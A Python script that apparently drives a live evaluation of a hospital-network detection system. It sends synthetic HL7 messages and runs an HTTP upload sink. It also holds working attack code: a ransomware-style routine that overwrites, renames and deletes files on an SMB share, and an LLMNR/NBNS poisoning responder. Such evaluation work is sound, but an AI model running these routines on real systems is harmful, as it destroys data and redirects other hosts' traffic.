"""What the live evaluation does that no program of a package does.

live.py hl7 HOST KIND COUNT SENDER [FIRST]   sends HL7 messages to port 2575, with python-hl7
live.py sink PORT                            takes what is sent by HTTP, and says yes
live.py ransom HOST USER PASSWORD COUNT      reads, overwrites and renames files of a share, with smbprotocol
live.py poison                               answers NBNS and LLMNR queries of others, with scapy
"""

import http.server
import random
import sys
import threading


def hl7(host, kind, count, sender, first="0"):
    import hl7.client

    first = int(first) or random.randrange(10**9)
    with hl7.client.MLLPClient(host, 2575) as client:
        for number in range(first, first + int(count)):
            text = (
                f"MSH|^~\\&|{sender}|HOSPITAL|EHR|HOSPITAL|20260105101500||{kind}|M{number}|P|2.5.1\r"
                f"EVN||20260105101500\rPID|1||{number % 977}^^^HOSPITAL^MR||TEST^PATIENT||19610707|F\r"
            )
            if kind.endswith("A40"):
                text += f"MRG|{number % 991}^^^HOSPITAL^MR\r"
            if kind.startswith("ORU"):
                text += "OBR|1|||718-7^Haemoglobin^LN\rOBX|1|NM|718-7^Haemoglobin^LN||13.2|g/dL|12-16|N|||F\r"
            client.send_message(text)


class Sink(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        left = int(self.headers.get("Content-Length", 0))
        while left > 0:
            left -= len(self.rfile.read(min(left, 1 << 16))) or left
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_PUT = do_GET = do_POST

    def log_message(self, *_):
        pass


def ransom(host, user, password, count):
    import smbclient

    smbclient.register_session(host, username=user, password=password)
    share = rf"\\{host}\share"
    names = [name for name in smbclient.listdir(share) if name.startswith("plan-")]
    for name in names[: int(count)]:
        path = rf"{share}\{name}"
        with smbclient.open_file(path, mode="rb") as file:
            text = file.read()
        with smbclient.open_file(path, mode="wb") as file:
            file.write(bytes(byte ^ 0x5A for byte in text))
        smbclient.rename(path, path + ".locked")
        smbclient.remove(path + ".locked")


def poison():
    from scapy.all import NBNS_am, conf
    from scapy.layers.llmnr import LLMNR_am

    conf.verb = 0
    address = conf.iface.ip
    answer = LLMNR_am(joker=address)
    names = NBNS_am(server_name="", ip=address)
    # Both run until the program is ended.
    threading.Thread(target=answer, kwargs={"iface": "eth0"}).start()
    names(iface="eth0")


COMMANDS = {"hl7": hl7, "ransom": ransom, "poison": poison}
if sys.argv[1] == "sink":
    http.server.ThreadingHTTPServer(("", int(sys.argv[2])), Sink).serve_forever()
else:
    COMMANDS[sys.argv[1]](*sys.argv[2:])
